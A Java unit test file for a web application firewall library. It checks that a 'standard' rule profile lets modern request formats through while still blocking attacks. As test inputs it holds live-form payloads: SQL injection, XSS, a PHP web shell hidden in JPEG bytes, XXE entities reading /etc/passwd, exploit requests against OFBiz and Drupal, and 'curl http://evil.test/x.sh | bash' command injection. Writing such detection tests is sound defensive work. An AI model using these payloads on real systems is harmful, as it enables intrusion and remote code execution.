package io.tiyi.waf;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.tiyi.testsupport.WafRequests;
import io.tiyi.waf.crs.CrsFixtures;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * The standard profile against the CRS as it ships, both at paranoia 1 in block mode: modern
 * request formats pass the standard profile and are still inspected; what the CRS refuses for
 * other reasons stays refused.
 */
class WafProfileTest {
    private static TiyiWaf standard;
    private static TiyiWaf crs;

    @BeforeAll
    static void rules() {
        standard = TiyiWaf.builder().crs(CrsFixtures.shared()).policy(WafPolicy.of(WafMode.BLOCK).withProfile(WafProfile.STANDARD)).build();
        crs = TiyiWaf.builder().crs(CrsFixtures.shared()).policy(WafPolicy.of(WafMode.BLOCK)).build();
    }

    @Test
    void theLibraryDefaultIsTheCrsAsItShipsAndNamesAreChecked() {
        assertThat(WafPolicy.of(WafMode.BLOCK).profile()).isEqualTo(WafProfile.CRS);
        assertThat(WafProfile.of(" Standard ")).isEqualTo(WafProfile.STANDARD);
        assertThat(WafProfile.of("crs")).isEqualTo(WafProfile.CRS);
        assertThatThrownBy(() -> WafProfile.of("strict")).hasMessage("profile must be standard or crs, got 'strict'");
    }

    @Test
    void modernRequestFormatsPassTheStandardProfileWhichTheCrsRefuses() {
        List<Object[]> benign = List.of(
                new Object[] {"text/plain;charset=UTF-8", bytes("{\"t\":\"pageview\",\"path\":\"/pricing\",\"ms\":1834}"), null},
                new Object[] {"application/x-ndjson", bytes("{\"event\":\"click\",\"target\":\"buy\"}\n{\"event\":\"scroll\",\"depth\":0.75}\n"), null},
                new Object[] {"application/csp-report", bytes("{\"csp-report\":{\"document-uri\":\"https://shop.test/\",\"violated-directive\":\"img-src\","
                        + "\"blocked-uri\":\"https://cdn.example/a.png\"}}"), null},
                new Object[] {"application/x-protobuf", new byte[] {0x0a, 0x05, 'h', 'e', 'l', 'l', 'o', 0x10, (byte) 0x96, 0x01, 0x1a, 0x03, 'a', 'b', 'c'}, null},
                new Object[] {"application/octet-stream", new byte[] {(byte) 0x89, 'P', 'N', 'G', 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d}, null},
                new Object[] {"application/x-www-form-urlencoded", gzip(bytes("name=Ada&comment=Hello+there")), "gzip"});
        for (Object[] c : benign) {
            String type = (String) c[0];
            Transaction s = post(standard, type, (byte[]) c[1], (String) c[2]);
            assertThat(s.interruption()).as("standard, %s", type).isEmpty();
            assertThat(s.variable("REQBODY_ERROR", null)).as("standard, %s", type).isEqualTo("0");
            Transaction r = post(crs, type, (byte[]) c[1], (String) c[2]);
            assertThat(r.interruption()).as("crs, %s", type).isPresent();
            assertThat(r.matchedRules()).as("crs, %s", type).extracting(MatchedRule::id).containsAnyOf(920420L, 920450L);
        }
        Transaction lines = post(standard, "application/x-ndjson", bytes("{\"event\":\"click\"}\n{\"event\":\"scroll\"}\n"), null);
        assertThat(lines.variable("ARGS_POST", "json.1.event")).isEqualTo("scroll");
    }

    @Test
    void theStandardProfileStillInspectsWhatItLetsIn() {
        Transaction ndjson = post(standard, "application/x-ndjson",
                bytes("{\"event\":\"search\"}\n{\"q\":\"1' UNION SELECT username, password FROM users--\"}\n"), null);
        assertThat(ndjson.interruption()).isPresent();
        assertThat(ndjson.matchedRules()).extracting(MatchedRule::id).contains(942100L);
        Transaction gz = post(standard, "application/x-www-form-urlencoded", gzip(bytes("comment=<script>alert(document.cookie)</script>")), "gzip");
        assertThat(gz.interruption()).isPresent();
        assertThat(gz.matchedRules()).extracting(MatchedRule::id).contains(941100L);
        Transaction csp = post(standard, "application/csp-report", bytes("{\"csp-report\":{\"document-uri\":\"<script>alert(1)</script>\"}}"), null);
        assertThat(csp.interruption()).isPresent();
        // A coding the engine cannot undo is a body it could not inspect: refused.
        Transaction zstd = post(standard, "application/x-www-form-urlencoded", bytes("a=1"), "zstd");
        assertThat(zstd.interruption()).hasValueSatisfying(i -> assertThat(i.status()).isEqualTo(400));
        // Types outside the list stay refused.
        Transaction odd = post(standard, "application/x-evil", bytes("a=1"), null);
        assertThat(odd.matchedRules()).extracting(MatchedRule::id).contains(920420L);
    }

    @Test
    void uploadsWithAHiddenScriptAreBlockedByTheStandardProfile() {
        byte[] jpeg = {(byte) 0xff, (byte) 0xd8, (byte) 0xff, (byte) 0xe0, 0, 0x10, 'J', 'F', 'I', 'F', 0, 1, 1, 0x3c, 0x25, 0x3d, 0x3c, 0x3f, 0x3d};
        String shell = new String(jpeg, StandardCharsets.ISO_8859_1) + "<?php system($_GET['c']); ?>";
        String image = new String(jpeg, StandardCharsets.ISO_8859_1);
        String[][] blocked = {{"shell.php.jpg", image}, {"shell.PhP5.png", image}, {"shell.php\u0000.jpg", image}, {"shell.php%00.jpg", image},
            {"avatar.jpg", shell}, {"logo.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>"}};
        for (String[] f : blocked) {
            Transaction tx = upload(standard, f[0], f[1]);
            assertThat(tx.interruption()).as("standard, %s", f[0]).isPresent();
            assertThat(tx.matchedRules()).as("standard, %s", f[0]).extracting(MatchedRule::id).containsAnyOf(1992100L, 1992101L, 1992102L);
        }
        assertThat(upload(crs, "shell.php.jpg", image).interruption()).as("the CRS as it ships").isEmpty();
        // Ordinary uploads pass: image bytes that hold "<%=" or "<?=" by chance, dotted names, archives, code as text.
        String[][] passed = {{"holiday.jpg", image}, {"report.2026.final.pdf", "%PDF-1.7 ..."}, {"backup.tar.gz", "\u001f\u008b\u0008"},
            {"notes.txt", "eval is evil; see <?php in the manual"}, {"photo.webp", "RIFF....WEBPVP8 <%= not code"}};
        for (String[] f : passed) {
            Transaction tx = upload(standard, f[0], f[1]);
            assertThat(tx.interruption()).as("standard, %s: %s", f[0], tx.matchedRules()).isEmpty();
        }
    }

    @Test
    void xmlExternalEntitiesAndExploitedCvesAreBlockedAndTheirNearMissesPass() {
        String[][] blocked = {
            {"POST", "/api/import", "application/xml", "<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY % x SYSTEM \"http://evil.test/x.dtd\"> %x;]><foo/>"},
            {"POST", "/api/import", "text/xml", "<?xml version=\"1.0\"?><!DOCTYPE foo SYSTEM \"http://evil.test/x.dtd\"><foo/>"},
            {"POST", "/api/import", "text/plain", "<!DOCTYPE r [<!ENTITY x PUBLIC \"-//A//B\" \"file:///etc/passwd\">]><r>&x;</r>"},
            {"POST", "/webtools/control/ProgramExport;/?USERNAME=&PASSWORD=&requirePasswordChange=Y", "application/x-www-form-urlencoded",
                "groovyProgram=throw+new+Exception('id'.execute().text);"},
            {"POST", "/webtools/control/forgotPassword/ProgramExport", "application/x-www-form-urlencoded", "groovyProgram=1"},
            {"POST", "/webtools/control/xmlrpc", "application/xml", "<?xml version=\"1.0\"?><methodCall><methodName>x</methodName><params><param><value>"
                + "<serializable xmlns=\"http://ws.apache.org/xmlrpc/namespaces/extensions\">rO0ABXNy</serializable></value></param></params></methodCall>"},
            {"POST", "/?q=user/password&name[%23post_render][]=passthru&name[%23type]=markup&name[%23markup]=id", "application/x-www-form-urlencoded",
                "form_id=user_pass&_triggering_element_name=name"},
            {"POST", "/user/register?element_parents=account/mail/%23value&ajax_form=1", "application/x-www-form-urlencoded",
                "form_id=user_register_form&mail[a]=b"},
        };
        for (String[] c : blocked) {
            Transaction tx = request(standard, c[0], c[1], c[2], c[3]);
            assertThat(tx.interruption()).as("standard, %s %s", c[1], tx.matchedRules()).isPresent();
            assertThat(tx.matchedRules()).as("standard, %s", c[1]).extracting(MatchedRule::id).containsAnyOf(1992201L, 1992300L, 1992310L);
        }
        String[][] passed = {
            {"POST", "/soap", "application/soap+xml", "<?xml version=\"1.0\"?><soap:Envelope xmlns:soap=\"http://www.w3.org/2003/05/soap-envelope\">"
                + "<soap:Body><GetPrice><Item>Apples</Item></GetPrice></soap:Body></soap:Envelope>"},
            {"POST", "/pages", "text/plain", "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\"><html/>"},
            {"POST", "/pages", "text/plain", "<!DOCTYPE html SYSTEM \"about:legacy-compat\"><html/>"},
            {"GET", "/webtools/control/main", null, null},
            {"POST", "/user/register", "application/x-www-form-urlencoded", "form_id=user_register_form&name[first]=Ada&mail=ada%40example.test&tag=%23news"},
        };
        for (String[] c : passed) {
            Transaction tx = request(standard, c[0], c[1], c[2], c[3]);
            assertThat(tx.interruption()).as("standard, %s %s", c[1], tx.matchedRules()).isEmpty();
        }
    }

    private static Transaction request(TiyiWaf waf, String method, String uri, String type, String body) {
        if (body == null) {
            Transaction tx = waf.newTransaction();
            tx.processConnection("203.0.113.7", 40000, "10.0.0.1", 443);
            tx.processUri(uri, method, "HTTP/1.1");
            tx.addRequestHeader("Host", "shop.test");
            tx.addRequestHeader("User-Agent", WafRequests.BROWSER);
            tx.addRequestHeader("Accept", "*/*");
            if (tx.processRequestHeaders().isEmpty()) {
                tx.processRequestBody();
            }
            return tx;
        }
        return post(waf, uri, type, bytes(body), null);
    }

    @Test
    void graphQlDocumentsAndRichTextAreConfirmedByTheirParsersBeforeTheyCount() {
        String query = "{\"query\":\"query Product($id: ID!) { product(id: $id) { id name price { amount currency } images(first: 4) { url alt } "
                + "reviews(first: 10, orderBy: {field: CREATED_AT, direction: DESC}) { edges { node { rating title } } } } }\",\"variables\":{\"id\":\"42\"}}";
        String richText = "{\"body\":\"<p>Looks great</p><p><img src=\\\"https://cdn.shop.test/u/1/photo.jpg\\\" alt=\\\"photo\\\" width=\\\"300\\\"></p>\"}";
        assertThat(post(standard, "/graphql", "application/json", bytes(query), null).interruption()).as("standard, GraphQL").isEmpty();
        assertThat(post(crs, "/graphql", "application/json", bytes(query), null).matchedRules()).extracting(MatchedRule::id).contains(932235L);
        assertThat(post(standard, "/reviews", "application/json", bytes(richText), null).interruption()).as("standard, rich text").isEmpty();
        assertThat(post(crs, "/reviews", "application/json", bytes(richText), null).matchedRules()).extracting(MatchedRule::id).contains(941160L);
        // What the parsers find is still refused: a command in a GraphQL string value, script in markup.
        String command = "{\"query\":\"{ search(q: \\\"x; curl http://evil.test/x.sh | bash\\\") { id } }\"}";
        Transaction cmd = post(standard, "/graphql", "application/json", bytes(command), null);
        assertThat(cmd.interruption()).as("standard, command in a GraphQL string").isPresent();
        assertThat(cmd.matchedRules()).extracting(MatchedRule::id).contains(932235L);
        String script = "{\"body\":\"<p><img src=x onerror=alert(document.cookie)></p>\"}";
        Transaction xss = post(standard, "/reviews", "application/json", bytes(script), null);
        assertThat(xss.interruption()).as("standard, event handler in markup").isPresent();
        assertThat(xss.matchedRules()).extracting(MatchedRule::id).contains(941160L);
        String shell = "{\"name\":\"x; curl http://evil.test/x.sh | bash\"}";
        assertThat(post(standard, "/profile", "application/json", bytes(shell), null).matchedRules()).extracting(MatchedRule::id).contains(932235L);
    }

    private static Transaction upload(TiyiWaf waf, String filename, String content) {
        String boundary = "----tiyiupload";
        String body = "--" + boundary + "\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nMy file\r\n--" + boundary
                + "\r\nContent-Disposition: form-data; name=\"file\"; filename=\"" + filename + "\"\r\nContent-Type: application/octet-stream\r\n\r\n"
                + content + "\r\n--" + boundary + "--\r\n";
        return post(waf, "multipart/form-data; boundary=" + boundary, body.getBytes(StandardCharsets.ISO_8859_1), null);
    }

    private static Transaction post(TiyiWaf waf, String type, byte[] body, String encoding) {
        return post(waf, "/collect", type, body, encoding);
    }

    private static Transaction post(TiyiWaf waf, String uri, String type, byte[] body, String encoding) {
        return WafRequests.post(waf, uri, type, encoding, body);
    }

    private static byte[] bytes(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] gzip(byte[] b) {
        return io.tiyi.testsupport.Gzip.gzip(b);
    }
}
